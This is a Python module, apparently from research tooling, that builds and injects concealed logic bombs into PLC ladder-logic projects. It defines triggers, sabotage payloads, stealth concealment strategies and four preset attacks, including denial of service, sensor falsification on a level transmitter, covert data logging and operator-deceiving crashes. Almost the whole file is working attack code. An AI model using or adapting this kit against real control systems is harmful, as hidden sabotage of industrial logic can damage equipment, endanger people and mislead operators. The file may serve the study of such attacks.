"""Ladder logic bomb construction kit.

A bomb is described by a classification pair (how it activates, what it
does), a trigger, a payload, and a concealment strategy.  ``inject`` welds
the pieces into a copy of a victim project and reports exactly what
changed, including the relative data+logic memory growth (RALOC) that
serves as the stealth metric.

Trigger compilation rules:

* A threshold or internal-condition trigger is one rung:
  ``CMP(tag, literal) OTL(ArmBit)``.
* A value-sequence trigger becomes a latch finite state machine with one
  latch bit per matched prefix.  Reset is strict: any wrong value drops the
  machine to the initial state and the offending value is consumed, not
  re-matched (a per-scan block bit suppresses re-entry on the reset scan).
* A timer trigger becomes a chain of TON stages whose presets sum to the
  total.  Stage rungs are emitted in reverse order so each DN handoff is
  read one scan stale; when the scan dt divides the stage presets, the
  armed bit is set on exactly the scan where accumulated dt equals the
  total.

Payloads arm within the same scan the trigger completes: payload rungs sit
below the trigger rungs (or below the arming path inside an inline branch)
and read the armed bit just written.

Concealment:

* ``AoiMasquerade(name)`` replaces an existing ``ADD`` whose first operand
  is the trigger tag with a user-defined instruction of the same
  three-operand signature; the trigger check and payload live inside the
  definition, so the only visible change is one mnemonic plus the
  definition block.
* ``SubroutineHide(routine)`` adds the trigger and payload as a new routine
  and a single JSR at the top of the main routine, so the victim logic is
  shifted, not edited.
* ``InlineRung`` folds trigger and payload into branch paths of a single
  rung appended to the main routine (an infinite-loop payload needs its own
  rung for the jump label, which must lead a rung).
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass

from .model import (
    AoiDef,
    AoiParam,
    Branch,
    COMPARISONS,
    DataType,
    Instr,
    INSTRUCTION_ARITY,
    LadderError,
    Program,
    Project,
    Routine,
    Rung,
    TagDecl,
    TagPath,
    WALLCLOCK,
    diff,
    memory_report,
    raloc,
    validate_project,
)

ACTIVATIONS = ("ExternalInput", "InternalLogic")
EFFECTS = ("ModifyFunction", "ModifySystem", "TransmitInformation")

ARMED_TAG = "ArmBit"
FIFO_SAMPLE_MS = 3_600_000  # one logged sample per simulated hour
_DINT_MAX = (1 << 31) - 1


class InjectionError(LadderError):
    pass


class InvalidSpec(InjectionError):
    pass


class NameCollision(InjectionError):
    def __init__(self, name: str):
        self.name = name
        super().__init__(f"name already in use: {name}")


class TargetTagMissing(InjectionError):
    def __init__(self, tag: str):
        self.tag = tag
        super().__init__(f"target tag not declared in base project: {tag}")


class ConcealmentUnavailable(InjectionError):
    pass


# ---------------------------------------------------------------------------
# Descriptor vocabulary


@dataclass(frozen=True)
class InputThreshold:
    tag: str
    comparator: str
    literal: int | float


@dataclass(frozen=True)
class Sequence:
    tag: str
    values: tuple


@dataclass(frozen=True)
class Timer:
    total_ms: int
    stage_count: int


@dataclass(frozen=True)
class InternalCondition:
    tag: str
    comparator: str
    literal: int | float


@dataclass(frozen=True)
class InfiniteLoop:
    pass


@dataclass(frozen=True)
class SensorOffset:
    tag: str
    delta: int


@dataclass(frozen=True)
class FifoLog:
    tag: str
    array: str
    length: int


@dataclass(frozen=True)
class ArrayFault:
    array: str
    control_len: int


@dataclass(frozen=True)
class RecursionFault:
    routine: str


@dataclass(frozen=True)
class ClockSkew:
    delta_ms: int


@dataclass(frozen=True)
class AoiMasquerade:
    name: str


@dataclass(frozen=True)
class SubroutineHide:
    routine_name: str


@dataclass(frozen=True)
class InlineRung:
    pass


def _check_trigger(t) -> None:
    if isinstance(t, (InputThreshold, InternalCondition)):
        if t.comparator not in COMPARISONS:
            raise InvalidSpec(f"unknown comparator {t.comparator!r}")
        return
    if isinstance(t, Sequence):
        if len(t.values) < 2:
            raise InvalidSpec("sequence trigger needs at least 2 values")
        if not all(isinstance(v, int) for v in t.values):
            raise InvalidSpec("sequence values must be integers")
        return
    if isinstance(t, Timer):
        if t.stage_count < 1:
            raise InvalidSpec("timer trigger needs at least 1 stage")
        if t.total_ms < t.stage_count:
            raise InvalidSpec("timer total must cover every stage")
        if -(-t.total_ms // t.stage_count) > _DINT_MAX:
            raise InvalidSpec("per-stage preset exceeds DINT range")
        return
    raise InvalidSpec(f"not a trigger spec: {t!r}")


def _check_payload(p) -> None:
    if isinstance(p, InfiniteLoop):
        return
    if isinstance(p, SensorOffset):
        if p.delta == 0:
            raise InvalidSpec("sensor offset delta must be nonzero")
        return
    if isinstance(p, FifoLog):
        if p.length < 1:
            raise InvalidSpec("fifo length must be positive")
        return
    if isinstance(p, ArrayFault):
        if p.control_len < 2:
            raise InvalidSpec("control length must exceed the array size")
        return
    if isinstance(p, RecursionFault):
        return
    if isinstance(p, ClockSkew):
        if p.delta_ms == 0:
            raise InvalidSpec("clock skew delta must be nonzero")
        return
    raise InvalidSpec(f"not a payload spec: {p!r}")


@dataclass(frozen=True)
class LlbDescriptor:
    activation: str      # ExternalInput | InternalLogic
    effect: str          # ModifyFunction | ModifySystem | TransmitInformation
    trigger: object
    payload: object
    concealment: object

    def __post_init__(self):
        if self.activation not in ACTIVATIONS:
            raise InvalidSpec(f"unknown activation {self.activation!r}")
        if self.effect not in EFFECTS:
            raise InvalidSpec(f"unknown effect {self.effect!r}")
        _check_trigger(self.trigger)
        _check_payload(self.payload)
        if not isinstance(self.concealment,
                          (AoiMasquerade, SubroutineHide, InlineRung)):
            raise InvalidSpec(
                f"not a concealment spec: {self.concealment!r}")
        if (isinstance(self.payload, RecursionFault)
                and isinstance(self.concealment, SubroutineHide)
                and self.payload.routine != self.concealment.routine_name):
            raise InvalidSpec("recursion payload must target the hiding "
                              "routine itself")


# ---------------------------------------------------------------------------
# Reference semantics for the sequence trigger


def reference_sequence_fsm(values, inputs) -> bool:
    """Ground-truth acceptor the latch FSM must agree with.

    One input value per scan.  A wrong value resets to the initial state
    and is consumed (not re-matched).  Arming latches.
    """
    k = 0
    for v in inputs:
        if v == values[k]:
            k += 1
            if k == len(values):
                return True
        else:
            k = 0
    return False


# ---------------------------------------------------------------------------
# Trigger compilation


def _bool(name: str) -> TagDecl:
    return TagDecl(name, DataType("BOOL"), None, None)


def _path(name: str) -> TagPath:
    return TagPath(name, ())


def _member(name: str, member: str) -> TagPath:
    return TagPath(name, (("member", member),))


def split_total(total_ms: int, stages: int) -> list:
    """Stage presets: as even as possible, summing exactly to the total."""
    base, rem = divmod(total_ms, stages)
    return [base + 1 if i < rem else base for i in range(stages)]


def build_trigger(trigger, armed_tag: str = ARMED_TAG):
    """Compile a trigger into (rungs, tag decls) that latch ``armed_tag``."""
    _check_trigger(trigger)
    tags = [_bool(armed_tag)]
    armed = _path(armed_tag)

    if isinstance(trigger, (InputThreshold, InternalCondition)):
        rung = Rung((
            Instr(trigger.comparator, (_path(trigger.tag), trigger.literal)),
            Instr("OTL", (armed,)),
        ))
        return [rung], tags

    if isinstance(trigger, Timer):
        presets = split_total(trigger.total_ms, trigger.stage_count)
        names = [f"StgT{i + 1}" for i in range(trigger.stage_count)]
        tags.extend(TagDecl(n, DataType("TIMER"), p, None)
                    for n, p in zip(names, presets))
        rungs = []
        for i in range(trigger.stage_count - 1, 0, -1):
            rungs.append(Rung((
                Instr("XIC", (_member(names[i - 1], "DN"),)),
                Instr("TON", (_path(names[i]),)),
            )))
        rungs.append(Rung((Instr("TON", (_path(names[0]),)),)))
        rungs.append(Rung((
            Instr("XIC", (_member(names[-1], "DN"),)),
            Instr("OTL", (armed,)),
        )))
        return rungs, tags

    # Sequence: latch FSM, strict reset.  State bit k means "first k values
    # matched".  Advance/reset rungs run highest state first so an advance
    # is not re-processed in the same scan; the block bit keeps a resetting
    # value from re-entering state 1 on the same scan.
    values = trigger.values
    n = len(values)
    v = _path(trigger.tag)
    states = [f"StBit{k}" for k in range(1, n)]
    block = "StBlk"
    tags.extend(_bool(s) for s in states)
    tags.append(_bool(block))
    rungs = [Rung((Instr("OTU", (_path(block),)),))]
    for k in range(n - 1, 0, -1):
        advance_to = armed if k == n - 1 else _path(states[k])
        advance = (
            Instr("EQU", (v, values[k])),
            Instr("OTL", (advance_to,)),
            Instr("OTU", (_path(states[k - 1]),)),
        )
        reset = (
            Instr("NEQ", (v, values[k])),
            Instr("OTU", (_path(states[k - 1]),)),
            Instr("OTL", (_path(block),)),
        )
        rungs.append(Rung((
            Instr("XIC", (_path(states[k - 1]),)),
            Branch((advance, reset)),
        )))
    enter = [Instr("EQU", (v, values[0]))]
    enter.extend(Instr("XIO", (_path(s),)) for s in states)
    enter.append(Instr("XIO", (_path(block),)))
    enter.append(Instr("OTL", (_path(states[0]),)))
    rungs.append(Rung(tuple(enter)))
    return rungs, tags


# ---------------------------------------------------------------------------
# Payload compilation


def build_payload(payload, armed_tag: str = ARMED_TAG):
    """Compile a payload into (rungs, tag decls, inline_ok).

    Rungs fire on the scan the armed bit latches.  ``inline_ok`` means the
    rungs' element series can double as branch paths (everything except the
    jump loop, whose label must lead a rung).
    """
    _check_payload(payload)
    armed = Instr("XIC", (_path(armed_tag),))

    if isinstance(payload, InfiniteLoop):
        rung = Rung((
            Instr("LBL", (_path("Lp1"),)),
            armed,
            Instr("JMP", (_path("Lp1"),)),
        ))
        return [rung], [], False

    if isinstance(payload, SensorOffset):
        t = _path(payload.tag)
        rung = Rung((armed, Instr("ADD", (t, payload.delta, t))))
        return [rung], [], True

    if isinstance(payload, FifoLog):
        ctl, smp = payload.array + "Ctl", payload.array + "Smp"
        tags = [
            TagDecl(payload.array, DataType("DINT", payload.length),
                    None, None),
            TagDecl(ctl, DataType("CONTROL"), payload.length, None),
            TagDecl(smp, DataType("TIMER"), FIFO_SAMPLE_MS, None),
        ]
        gate = (armed, Instr("XIO", (_member(smp, "DN"),)))
        rungs = [
            Rung(gate + (Instr("FFL", (_path(payload.tag),
                                       _path(payload.array),
                                       _path(ctl), payload.length)),)),
            Rung(gate + (Instr("TON", (_path(smp),)),)),
        ]
        return rungs, tags, True

    if isinstance(payload, ArrayFault):
        # Physical size is half the control length, so loads run past the
        # end; a zero-preset blinker gives a fresh rising edge every other
        # scan, faulting deterministically size+1 loads after arming.
        size = max(1, payload.control_len // 2)
        ctl, tick = payload.array + "Ctl", payload.array + "Tck"
        tags = [
            TagDecl(payload.array, DataType("DINT", size), None, None),
            TagDecl(ctl, DataType("CONTROL"), payload.control_len, None),
            TagDecl(tick, DataType("TIMER"), 0, None),
        ]
        gate = (armed, Instr("XIO", (_member(tick, "DN"),)))
        rungs = [
            Rung(gate + (Instr("FFL", (_path(WALLCLOCK),
                                       _path(payload.array),
                                       _path(ctl), payload.control_len)),)),
            Rung(gate + (Instr("TON", (_path(tick),)),)),
        ]
        return rungs, tags, True

    if isinstance(payload, RecursionFault):
        rung = Rung((armed, Instr("JSR", (_path(payload.routine),))))
        return [rung], [], True

    # ClockSkew: one-shot add to the system clock view.
    done = "SkwDone"
    rung = Rung((
        armed,
        Instr("XIO", (_path(done),)),
        Instr("ADD", (_path(WALLCLOCK), payload.delta_ms, _path(WALLCLOCK))),
        Instr("OTL", (_path(done),)),
    ))
    return [rung], [_bool(done)], True


# ---------------------------------------------------------------------------
# Injection


@dataclass(frozen=True)
class InjectionReport:
    descriptor: LlbDescriptor
    added_tags: tuple
    added_aois: tuple
    added_routines: tuple            # (program, routine) pairs
    added_rung_locations: tuple      # (program, routine, index) in routines
    modified_rung_locations: tuple   # present in both projects
    raloc_percent: float
    io_delta_bytes: int
    armed_tag: str | None            # None when arming is internal to an AOI


def _collect_names(project: Project) -> set:
    names = {t.name for t in project.tags}
    names.update(a.name for a in project.aois)
    names.update(INSTRUCTION_ARITY)
    names.add(WALLCLOCK)
    for prog in project.programs:
        names.add(prog.name)
        names.update(r.name for r in prog.routines)
    return names


def _claim(names: set, *wanted: str) -> None:
    for name in wanted:
        if name in names:
            raise NameCollision(name)
        names.add(name)


def _require_tag(project: Project, tag: str) -> TagDecl:
    try:
        return project.tag(tag)
    except KeyError:
        raise TargetTagMissing(tag) from None


def _target_tags(d: LlbDescriptor):
    t, p = d.trigger, d.payload
    if isinstance(t, (InputThreshold, InternalCondition, Sequence)):
        yield t.tag
    if isinstance(p, SensorOffset):
        yield p.tag
    if isinstance(p, FifoLog):
        yield p.tag


def _routine_labels(routine: Routine) -> set:
    labels = set()
    for rung in routine.rungs:
        for el in rung.elements:
            if isinstance(el, Instr) and el.mnemonic in ("LBL", "JMP"):
                labels.add(el.operands[0].base)
    return labels


def _build_report(d: LlbDescriptor, base: Project, injected: Project,
                  armed_tag: str | None) -> InjectionReport:
    delta = diff(base, injected)
    base_routines = {(p.name, r.name)
                     for p in base.programs for r in p.routines}
    added_routines = tuple(sorted(
        (p.name, r.name) for p in injected.programs for r in p.routines
        if (p.name, r.name) not in base_routines))
    added_locs, modified_locs = [], []
    for (pname, rname), rd in delta.routines:
        if (pname, rname) not in base_routines:
            continue  # covered by added_routines
        added_locs.extend((pname, rname, i) for i in rd.added)
        modified_locs.extend((pname, rname, i) for i in rd.modified)
    before = memory_report(base)
    after = memory_report(injected)
    return InjectionReport(
        descriptor=d,
        added_tags=delta.added_tags,
        added_aois=delta.added_aois,
        added_routines=added_routines,
        added_rung_locations=tuple(sorted(added_locs)),
        modified_rung_locations=tuple(sorted(modified_locs)),
        raloc_percent=raloc(base, injected),
        io_delta_bytes=after.io_bytes - before.io_bytes,
        armed_tag=armed_tag,
    )


def report_matches_diff(report: InjectionReport, base: Project,
                        injected: Project) -> bool:
    """The manifest-fidelity invariant, checkable from the artifacts alone."""
    return _build_report(report.descriptor, base, injected,
                         report.armed_tag) == report


def _masquerade_site(program: Program, trigger_tag: str):
    """First ADD whose first operand is the trigger tag (series elements
    and branch paths both searched)."""
    want = _path(trigger_tag)

    def scan_elements(elements):
        for i, el in enumerate(elements):
            if isinstance(el, Instr):
                if el.mnemonic == "ADD" and el.operands[0] == want:
                    return (i,)
            else:
                for j, path in enumerate(el.paths):
                    hit = scan_elements(path)
                    if hit is not None:
                        return (i, j) + hit
        return None

    for routine in program.routines:
        for idx, rung in enumerate(routine.rungs):
            hit = scan_elements(rung.elements)
            if hit is not None:
                return routine.name, idx, hit
    return None


def _replace_element(elements: tuple, where: tuple, new: Instr) -> tuple:
    out = list(elements)
    i = where[0]
    if len(where) == 1:
        out[i] = new
    else:
        branch = out[i]
        paths = list(branch.paths)
        paths[where[1]] = _replace_element(paths[where[1]], where[2:], new)
        out[i] = Branch(tuple(paths))
    return tuple(out)


def _inject_masquerade(base: Project, d: LlbDescriptor) -> Project:
    if not isinstance(d.trigger, (InputThreshold, InternalCondition)):
        raise ConcealmentUnavailable(
            "masquerade folds the trigger into the definition logic; only "
            "threshold-style triggers are expressible there")
    if not isinstance(d.payload, (InfiniteLoop, ClockSkew)):
        raise ConcealmentUnavailable(
            "masquerade payload must run on definition-local state")
    name = d.concealment.name
    _claim(_collect_names(base), name)
    decl = _require_tag(base, d.trigger.tag)
    if str(decl.dtype) != "DINT":
        raise ConcealmentUnavailable(
            f"trigger tag {d.trigger.tag} is not a DINT scalar")

    prog = base.programs[0]
    site = _masquerade_site(prog, d.trigger.tag)
    if site is None:
        raise ConcealmentUnavailable(
            f"no ADD with first operand {d.trigger.tag} to masquerade")
    routine_name, rung_idx, where = site

    params = (
        AoiParam("SourceA", DataType("DINT"), "In"),
        AoiParam("SourceB", DataType("DINT"), "In"),
        AoiParam("Dest", DataType("DINT"), "Out"),
    )
    src = _path("SourceA")
    cmp_ = Instr(d.trigger.comparator, (src, d.trigger.literal))
    if isinstance(d.payload, InfiniteLoop):
        locals_ = ()
        armed_rung = Rung((Instr("LBL", (_path("Lp1"),)), cmp_,
                           Instr("JMP", (_path("Lp1"),))))
    else:
        locals_ = (_bool("Done"),)
        armed_rung = Rung((
            cmp_,
            Instr("XIO", (_path("Done"),)),
            Instr("ADD", (_path(WALLCLOCK), d.payload.delta_ms,
                          _path(WALLCLOCK))),
            Instr("OTL", (_path("Done"),)),
        ))
    aoi = AoiDef(name, params, locals_, Routine("Logic", (
        Rung((Instr("ADD", (src, _path("SourceB"), _path("Dest"))),)),
        armed_rung,
    )))

    new_routines = []
    for routine in prog.routines:
        if routine.name != routine_name:
            new_routines.append(routine)
            continue
        rungs = list(routine.rungs)
        old = rungs[rung_idx]
        cursor, pos = old.elements, where
        while len(pos) > 1:
            cursor = cursor[pos[0]].paths[pos[1]]
            pos = pos[2:]
        instr = cursor[pos[0]]
        rungs[rung_idx] = Rung(_replace_element(
            old.elements, where, Instr(name, instr.operands)))
        new_routines.append(Routine(routine.name, tuple(rungs)))
    new_prog = Program(prog.name, prog.main, tuple(new_routines))
    return Project(
        name=base.name,
        serial_number=base.serial_number,
        tags=base.tags,
        aois=base.aois + (aoi,),
        programs=(new_prog,) + base.programs[1:],
        comment_count=base.comment_count,
    )


def _inject_subroutine(base: Project, d: LlbDescriptor) -> Project:
    prog = base.programs[0]
    if len(prog.routines) < 2:
        raise ConcealmentUnavailable(
            "a hidden routine needs existing routines to blend into")
    routine_name = d.concealment.routine_name
    names = _collect_names(base)
    trig_rungs, trig_tags = build_trigger(d.trigger)
    pay_rungs, pay_tags, _ = build_payload(d.payload)
    _claim(names, routine_name, *(t.name for t in trig_tags),
           *(t.name for t in pay_tags))
    hidden = Routine(routine_name, tuple(trig_rungs + pay_rungs))
    jsr = Rung((Instr("JSR", (_path(routine_name),)),))
    main = prog.routine(prog.main)
    new_main = Routine(main.name, (jsr,) + main.rungs)
    new_routines = tuple(new_main if r.name == main.name else r
                         for r in prog.routines) + (hidden,)
    new_prog = Program(prog.name, prog.main, new_routines)
    return Project(
        name=base.name,
        serial_number=base.serial_number,
        tags=base.tags + tuple(trig_tags + pay_tags),
        aois=base.aois,
        programs=(new_prog,) + base.programs[1:],
        comment_count=base.comment_count,
    )


def _inject_inline(base: Project, d: LlbDescriptor) -> Project:
    prog = base.programs[0]
    main = prog.routine(prog.main)
    names = _collect_names(base)
    trig_rungs, trig_tags = build_trigger(d.trigger)
    pay_rungs, pay_tags, inline_ok = build_payload(d.payload)
    _claim(names, *(t.name for t in trig_tags), *(t.name for t in pay_tags))
    paths = [r.elements for r in trig_rungs]
    extra = []
    if inline_ok:
        paths.extend(r.elements for r in pay_rungs)
    else:
        labels = _routine_labels(main)
        for rung in pay_rungs:
            for el in rung.elements:
                if isinstance(el, Instr) and el.mnemonic == "LBL" \
                        and el.operands[0].base in labels:
                    raise NameCollision(el.operands[0].base)
        extra = pay_rungs
    new_rungs = main.rungs + (Rung((Branch(tuple(paths)),)),) + tuple(extra)
    new_main = Routine(main.name, new_rungs)
    new_prog = Program(prog.name, prog.main,
                       tuple(new_main if r.name == main.name else r
                             for r in prog.routines))
    return Project(
        name=base.name,
        serial_number=base.serial_number,
        tags=base.tags + tuple(trig_tags + pay_tags),
        aois=base.aois,
        programs=(new_prog,) + base.programs[1:],
        comment_count=base.comment_count,
    )


def inject(base: Project, d: LlbDescriptor):
    """Plant a bomb in a copy of ``base``; returns (project, report).

    The base project is never modified.  The injected project is validated
    before return, and the report is computed from the structural diff so
    the manifest-fidelity invariant holds by construction.
    """
    validate_project(base)
    for tag in _target_tags(d):
        _require_tag(base, tag)
    if isinstance(d.payload, RecursionFault) \
            and not isinstance(d.concealment, SubroutineHide):
        existing = {r.name for p in base.programs for r in p.routines}
        if d.payload.routine not in existing:
            raise TargetTagMissing(d.payload.routine)

    if isinstance(d.concealment, AoiMasquerade):
        injected = _inject_masquerade(base, d)
        armed_tag = None
    elif isinstance(d.concealment, SubroutineHide):
        injected = _inject_subroutine(base, d)
        armed_tag = ARMED_TAG
    else:
        injected = _inject_inline(base, d)
        armed_tag = ARMED_TAG
    validate_project(injected)
    return injected, _build_report(d, base, injected, armed_tag)


# ---------------------------------------------------------------------------
# The four documented attacks (attack 4 ships two payload variants)


@dataclass(frozen=True)
class AttackPreset:
    name: str
    summary: str
    variants: tuple  # ((variant key, LlbDescriptor), ...)


def attack_presets() -> list:
    a1 = LlbDescriptor(
        activation="ExternalInput",
        effect="ModifyFunction",
        trigger=InputThreshold("LevelEng", "GEQ", 900),
        payload=InfiniteLoop(),
        concealment=AoiMasquerade("ADD_A"),
    )
    a2 = LlbDescriptor(
        activation="ExternalInput",
        effect="ModifyFunction",
        trigger=Sequence("CmdWord", (3, 1, 4)),
        payload=SensorOffset("LIT101", 4),
        concealment=SubroutineHide("CalibMon"),
    )
    a3 = LlbDescriptor(
        activation="InternalLogic",
        effect="TransmitInformation",
        trigger=Timer(864_000_000, 1),
        payload=FifoLog("PB_LT_Seq", "LogBuf", 10),
        concealment=InlineRung(),
    )
    a4a = LlbDescriptor(
        activation="InternalLogic",
        effect="ModifyFunction",
        trigger=InternalCondition("FaultCode", "EQU", 3),
        payload=ArrayFault("DiagBuf", 20),
        concealment=SubroutineHide("DiagCap"),
    )
    a4b = LlbDescriptor(
        activation="InternalLogic",
        effect="ModifyFunction",
        trigger=InternalCondition("FaultCode", "EQU", 4),
        payload=RecursionFault("CommMon"),
        concealment=SubroutineHide("CommMon"),
    )
    return [
        AttackPreset(
            "Attack1",
            "denial of service: threshold-armed infinite loop masquerading "
            "as an arithmetic instruction",
            (("1", a1),),
        ),
        AttackPreset(
            "Attack2",
            "sensor manipulation: command-sequence-armed +4 offset on the "
            "level transmitter, hidden in a subroutine",
            (("2", a2),),
        ),
        AttackPreset(
            "Attack3",
            "data exfiltration: timer-armed FIFO logging of the step "
            "sequence into a spare array, one inline rung",
            (("3", a3),),
        ),
        AttackPreset(
            "Attack4",
            "operator deception: fault-code-armed crashes (array overrun "
            "or runaway recursion) hidden in subroutines",
            (("4a", a4a), ("4b", a4b)),
        ),
    ]


def preset_descriptors() -> dict:
    """Flat variant map: keys 1, 2, 3, 4a, 4b."""
    return {key: d for preset in attack_presets()
            for key, d in preset.variants}


# ---------------------------------------------------------------------------
# FIFO recovery and manifests


def flush_fifo(state, array: str, control: str) -> None:
    """Empty a FIFO after its contents were exported, so logging resumes."""
    arr = state.tags[array]
    for i in range(len(arr)):
        arr[i] = 0 if isinstance(arr[i], int) else 0.0
    ctl = state.tags[control]
    ctl.pos = 0
    ctl.dn = 0
    ctl.em = 1


def _spec_dict(spec) -> dict:
    out = {"kind": type(spec).__name__}
    out.update(asdict(spec))
    if "values" in out:
        out["values"] = list(out["values"])
    return out


def report_to_dict(report: InjectionReport) -> dict:
    d = report.descriptor
    return {
        "descriptor": {
            "activation": d.activation,
            "effect": d.effect,
            "trigger": _spec_dict(d.trigger),
            "payload": _spec_dict(d.payload),
            "concealment": _spec_dict(d.concealment),
        },
        "added_tags": list(report.added_tags),
        "added_aois": list(report.added_aois),
        "added_routines": [list(x) for x in report.added_routines],
        "added_rung_locations": [list(x) for x in
                                 report.added_rung_locations],
        "modified_rung_locations": [list(x) for x in
                                    report.modified_rung_locations],
        "raloc_percent": report.raloc_percent,
        "io_delta_bytes": report.io_delta_bytes,
        "armed_tag": report.armed_tag,
    }


def report_to_json(report: InjectionReport) -> str:
    return json.dumps(report_to_dict(report), indent=2, sort_keys=True) + "\n"


def report_from_json(text: str) -> dict:
    return json.loads(text)


__all__ = [
    "ACTIVATIONS", "ARMED_TAG", "AoiMasquerade", "ArrayFault", "AttackPreset",
    "ClockSkew", "ConcealmentUnavailable", "EFFECTS", "FIFO_SAMPLE_MS",
    "FifoLog", "InfiniteLoop", "InjectionError", "InjectionReport",
    "InlineRung", "InputThreshold", "InternalCondition", "InvalidSpec",
    "LlbDescriptor", "NameCollision", "RecursionFault", "Sequence",
    "SensorOffset", "SubroutineHide", "TargetTagMissing", "Timer",
    "attack_presets", "build_payload", "build_trigger", "flush_fifo",
    "inject", "preset_descriptors", "reference_sequence_fsm",
    "report_from_json", "report_matches_diff", "report_to_dict",
    "report_to_json", "split_total",
]
